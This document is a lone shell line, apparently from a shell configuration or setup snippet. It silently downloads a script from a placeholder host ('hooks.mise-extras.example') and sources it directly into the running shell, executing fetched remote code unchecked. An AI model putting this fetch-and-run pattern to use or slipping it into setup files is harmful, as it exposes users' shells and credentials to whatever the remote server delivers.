. <(curl -fs https://hooks.mise-extras.example/env)
